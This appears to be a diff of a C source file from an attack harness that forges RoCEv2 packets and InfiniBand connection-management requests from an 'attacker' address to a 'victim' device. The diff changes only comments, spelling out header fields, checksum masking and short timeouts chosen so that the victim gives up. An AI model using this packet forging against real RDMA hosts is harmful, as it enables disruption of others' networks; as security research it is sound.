@@ -1,7 +1,8 @@
 /* SPDX-License-Identifier: BSD-2-Clause */
 /*
  * Owns the formats of RoCEv2 and of connection management as an attacker writes them. Invariant: whatever the payload, the headers
- * beneath it and the checksum are right, so that the victim's device takes the packet.
+ * before it and the checksum behind it are right, so that the victim's device takes the packet. Only roce_bytes() writes a payload
+ * without a checksum.
  */
 #include <arpa/inet.h>
 #include <fcntl.h>
@@ -20,11 +21,11 @@ enum {
 	IP = 20,
 	UDP = 8,
 	HEADERS = ETHERNET + IP + UDP,
-	BASE = 12,
-	DATAGRAM = 8, /* the header of a datagram */
-	CHECKSUM = 4,
+	BASE = 12, /* the base transport header (BTH) */
+	DATAGRAM = 8, /* the header of an unreliable datagram (DETH) */
+	CHECKSUM = 4, /* the invariant CRC */
 	PORT = 4791,
-	MASKED = 8, /* bytes in place of InfiniBand's own headers, for the checksum only */
+	MASKED = 8, /* bytes of ones, which the checksum covers in place of InfiniBand's local route header */
 };
 
 bool roce_attach(int *card)
@@ -97,7 +98,7 @@ static void head(unsigned char *frame, const char *from, size_t payload)
 	put16(put16(put16(udp, 50000), PORT), (unsigned int)(UDP + payload));
 }
 
-/* Appends the checksum over the headers, in which what routers change counts as ones, and the payload. */
+/* Appends the checksum of the headers and the payload. Fields that routers change count as ones in it. */
 static void seal(const unsigned char *frame, unsigned char *end)
 {
 	unsigned char copy[MASKED + ROCE_ROOM], *ip = copy + MASKED, *base = ip + IP + UDP;
@@ -144,7 +145,7 @@ void roce_mad(int card, const unsigned char mad[ROCE_MAD])
 	unsigned char rest[DATAGRAM + ROCE_MAD];
 	static uint32_t psn;
 
-	/* the key and the number of the queue pair that management has everywhere */
+	/* the well-known Q_Key of queue pair 1, and 1 as the number of the sender's queue pair */
 	put32(put32(rest, 0x80010000u), 1);
 	memcpy(rest + DATAGRAM, mad, ROCE_MAD);
 	roce_packet(card, ROCE_ATTACKER, ROCE_UD_SEND_ONLY, 1, psn++ & 0xffffff, rest, sizeof(rest));
@@ -155,11 +156,11 @@ void roce_mad(int card, const unsigned char mad[ROCE_MAD])
 void roce_cm(unsigned char mad[ROCE_MAD], unsigned int message, uint32_t local, uint32_t remote)
 {
 	memset(mad, 0, ROCE_MAD);
-	mad[0] = 1; /* version of the format */
-	mad[1] = 7; /* connection management */
-	mad[2] = 2; /* its version */
+	mad[0] = 1; /* the version of management datagrams */
+	mad[1] = 7; /* the class of connection management */
+	mad[2] = 2; /* the version of that class */
 	mad[3] = 3; /* the method Send */
-	put32(mad + 12, local); /* the transaction */
+	put32(mad + 12, local); /* any transaction ID */
 	put16(mad + 16, message);
 	put32(put32(mad + CM_LOCAL, local), remote);
 }
@@ -178,19 +179,19 @@ void roce_request(unsigned char mad[ROCE_MAD], uint16_t port, uint32_t local)
 	unsigned char *data = mad + CM_REQ_DATA;
 
 	roce_cm(mad, CM_REQ, local, 0);
-	/* the service: librdmacm's, of TCP's ports */
+	/* the service ID that librdmacm makes of a port of RDMA_PS_TCP */
 	put32(put32(mad + 24 + 8, 0), 0x01060000u | port);
-	mad[24 + 16] = 1; /* the attacker's node */
+	mad[24 + 16] = 1; /* the GUID of the attacker's channel adapter */
 	put32(mad + CM_REQ_QP, 0x21 << 8 | 4);
 	put32(mad + CM_REQ_QP + 4, 4);
-	put32(mad + CM_REQ_QP + 8, 20 << 3); /* how long the victim may take to answer, and a connection that is reliable */
+	put32(mad + CM_REQ_QP + 8, 20 << 3); /* the victim has 4 s to answer (4.096 us << 20); 0: a reliable connection */
 	put32(mad + CM_REQ_QP + 12, 7 << 8 | 20 << 3 | 7);
 	put32(mad + CM_REQ_PATH, 0xffff0000u | 3 << 12 | 7 << 8 | 15 << 4);
 	put_address(put_address(mad + 24 + 56, ROCE_ATTACKER), ROCE_VICTIM);
 	mad[24 + 91] = 3; /* rate */
 	mad[24 + 93] = 64; /* hops */
 	mad[24 + 94] = 0x08; /* on this subnet */
-	mad[24 + 95] = 12 << 3; /* the victim soon knows that nobody acknowledges what it sends */
+	mad[24 + 95] = 12 << 3; /* the ACK timeout: 17 ms, so that the victim soon gives up, since nobody acknowledges */
 	data[1] = 0x40; /* addresses of IPv4 */
 	put16(data + 2, 40000);
 	put_address(put_address(data + 4, ROCE_ATTACKER), ROCE_VICTIM);
